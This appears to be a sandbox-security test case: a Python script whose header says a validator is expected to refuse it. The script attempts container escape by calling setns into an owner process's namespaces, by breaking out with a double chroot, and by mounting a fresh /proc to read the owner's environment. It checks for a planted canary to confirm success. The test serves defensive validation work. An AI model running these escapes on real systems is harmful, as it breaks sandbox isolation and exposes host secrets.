# attack: goes back to where its owner lives: setns into its namespaces, chroot out of the root, a fresh /proc
# expect: validator
# validator: refused
import ctypes
import os

X86 = os.uname().machine == "x86_64"
SETNS, CHROOT = (308, 161) if X86 else (268, 51)
PIDFD_OPEN, FSOPEN, FSCONFIG, FSMOUNT = 434, 430, 431, 432
ALL = 0x20000 | 0x40000000 | 0x08000000 | 0x04000000 | 0x10000000
OWNER = int("@OWNER_PID@")
CANARY = b"CANARY" + b"_7f3a"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(number, *arguments):
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def by_files():
    for kind in ("net", "mnt", "ipc", "uts", "user"):
        call(SETNS, os.open(f"/proc/{OWNER}/ns/{kind}", os.O_RDONLY), 0)
        print(f"ESCAPED: is in the owner's {kind} namespace", flush=True)


def by_handle():
    for kinds in (ALL, 0x40000000, 0x20000):
        call(SETNS, call(PIDFD_OPEN, OWNER, 0), kinds)
        print(f"ESCAPED: is in the owner's namespaces {kinds:#x}", flush=True)


def by_chroot():
    """The classic: a root inside the root leaves the current folder outside of both."""
    outside = os.open(".", os.O_RDONLY)
    call(CHROOT, os.path.dirname(os.__file__).encode())
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    call(CHROOT, b".")
    with open("@CANARY_FILE@", "rb") as file:
        if CANARY in file.read():
            print("ESCAPED: chroot works, and leads to the planted file", flush=True)


def by_a_fresh_proc():
    """A new /proc that needs no place to be mounted on."""
    system = call(FSOPEN, b"proc", 0)
    call(FSCONFIG, system, 6, None, None, 0)
    mounted = call(FSMOUNT, system, 0, 0)
    environment = os.open(f"{OWNER}/environ", os.O_RDONLY, dir_fd=mounted)
    if CANARY in os.read(environment, 1 << 20):
        print("ESCAPED: a fresh /proc shows the owner's environment", flush=True)


for way in (by_a_fresh_proc, by_chroot, by_files, by_handle):
    try:
        way()
    except OSError as error:
        print(way.__name__, error)
